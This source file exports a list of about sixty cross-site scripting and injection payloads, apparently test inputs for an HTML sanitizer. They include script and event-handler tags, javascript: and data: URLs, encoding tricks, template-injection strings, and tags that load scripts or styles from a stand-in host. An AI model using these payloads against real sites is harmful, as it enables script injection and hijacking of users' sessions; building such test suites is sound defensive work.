// Sixty texts that run, load or hide something where a page takes text for HTML, for an address, a style or a script.

const CALL = "boom()";

export const PAYLOADS = [
  `<script>${CALL}</script>`, `<ScRiPt>${CALL}</sCrIpT>`, `<script src=//x.test/a.js></script>`, `"><script>${CALL}</script>`, `'><script>${CALL}</script>`,
  `</textarea><script>${CALL}</script>`, `</title><script>${CALL}</script>`, `</style><script>${CALL}</script>`, `<script\n>${CALL}</script>`, `<script/x>${CALL}</script>`,
  `<img src=x onerror=${CALL}>`, `<img src=x onerror="${CALL}">`, `<img/src=x/onerror=${CALL}>`, `"><img src=x onerror=${CALL}>`, `<img src=//x.test/a.png>`,
  `<image src=x onerror=${CALL}>`, `<svg onload=${CALL}>`, `<svg/onload=${CALL}>`, `<svg><script>${CALL}</script></svg>`, `<svg><animate onbegin=${CALL} attributeName=x>`,
  `<svg><a xlink:href=javascript:${CALL}><text>x`, `<math><mi xlink:href=javascript:${CALL}>x`, `<body onload=${CALL}>`, `<iframe src=javascript:${CALL}>`, `<iframe srcdoc="<script>parent.${CALL}</script>">`,
  `<object data=javascript:${CALL}>`, `<embed src=javascript:${CALL}>`, `<a href=javascript:${CALL}>x</a>`, `<a href="jav\tascript:${CALL}">x</a>`, `<form action=javascript:${CALL}><input type=submit>`,
  `<button formaction=javascript:${CALL}>x`, `<input autofocus onfocus=${CALL}>`, `<select autofocus onfocus=${CALL}>`, `<details open ontoggle=${CALL}>`, `<video><source onerror=${CALL}>`,
  `<audio src=x onerror=${CALL}>`, `<marquee onstart=${CALL}>`, `<style>*{display:none}</style>`, `<style>@import '//x.test/a.css';</style>`, `<link rel=stylesheet href=//x.test/a.css>`,
  `<base href=//x.test/>`, `<meta http-equiv=refresh content=0;url=//x.test>`, `<div style=background:url(//x.test/a)>`, `<div onmouseover=${CALL} style=position:fixed;inset:0>`, `<template><script>${CALL}</script></template>`,
  `javascript:${CALL}`, `data:text/html,<script>${CALL}</script>`, `"-${CALL}-"`, `'-${CALL}-'`, `\`-${CALL}-\``,
  `\${${CALL}}`, `{{constructor.constructor('${CALL}')()}}`, `{{7*7}}`, `<%= ${CALL} %>`, `]]><script>${CALL}</script>`,
  `&lt;script&gt;${CALL}&lt;/script&gt;`, `&#60;script&#62;${CALL}`, `\u202e<script>${CALL}</script>`, `<!--><script>${CALL}</script>-->`, `" onfocus=${CALL} autofocus x="`,
];
